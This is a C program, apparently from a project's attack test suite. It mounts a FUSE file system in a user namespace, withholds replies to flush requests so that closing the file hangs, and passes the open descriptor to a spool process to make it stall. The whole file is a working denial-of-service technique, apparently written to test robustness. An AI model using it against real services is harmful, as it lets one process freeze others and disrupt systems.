/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * fuse DEVICE: offers a file of its own file system, which never answers when the file is closed.
 * DEVICE is /dev/fuse, or another such node.
 */
#include "attack.h"

#include <linux/fuse.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/uio.h>

static void answer(int fuse, uint64_t unique, int error, const void *what, size_t length)
{
	struct fuse_out_header head = {(uint32_t)(sizeof(head) + length), -error, unique};
	union {
		const void *from;
		void *base;
	} bytes = {what};
	struct iovec parts[2] = {{&head, sizeof(head)}, {bytes.base, length}};

	if (writev(fuse, parts, length ? 2 : 1) < 0)
		perror("answer");
}

static void serve(int fuse)
{
	static char buffer[1 << 18];
	const struct fuse_in_header *head = (const struct fuse_in_header *)(void *)buffer;
	struct fuse_init_out init = {.major = FUSE_KERNEL_VERSION, .minor = 31, .max_write = 4096};
	struct fuse_open_out open_out = {.fh = 1};
	struct fuse_attr_out attributes = {.attr = {.ino = 1, .mode = S_IFREG | 0666, .nlink = 1}};

	while (read(fuse, buffer, sizeof(buffer)) > 0) {
		if (head->opcode == FUSE_INIT)
			answer(fuse, head->unique, 0, &init, sizeof(init));
		else if (head->opcode == FUSE_OPEN)
			answer(fuse, head->unique, 0, &open_out, sizeof(open_out));
		else if (head->opcode == FUSE_GETATTR)
			answer(fuse, head->unique, 0, &attributes, sizeof(attributes));
		else if (head->opcode != FUSE_FLUSH)
			answer(fuse, head->unique, ENOSYS, NULL, 0);
	}
}

static void write_text(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		exit(75);
	close(fd);
}

int main(int count, char **words)
{
	char options[128];
	int fuse, fd;

	if (count < 2)
		return 2;
	attack_begin();
	close(open("attack.file", O_RDWR | O_CREAT | O_CLOEXEC, 0666));
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		return 75;
	write_text("/proc/self/setgroups", "deny");
	write_text("/proc/self/uid_map", "0 65534 1");
	write_text("/proc/self/gid_map", "0 65534 1");
	fuse = open(words[1], O_RDWR | O_CLOEXEC);
	if (fuse < 0)
		return 75;
	snprintf(options, sizeof(options), "fd=%d,rootmode=100666,user_id=0,group_id=0", fuse);
	if (mount("attack", "attack.file", "fuse", 0, options))
		return 75;
	if (attack_survive() == 0) {
		serve(fuse);
		_exit(0);
	}
	/* A process that has the file open cannot end, either. */
	if (attack_survive() == 0) {
		close(fuse); /* all continue when the server of the file system is killed */
		fd = open("attack.file", O_RDWR | O_CLOEXEC);
		if (fd >= 0)
			attack_offer_fd(SPOOL_OFFER_THREAD, getpid(), 1, fd);
		sleep(ATTACK_MS / 1000);
		_exit(0);
	}
	usleep(500000);
	return 0;
}
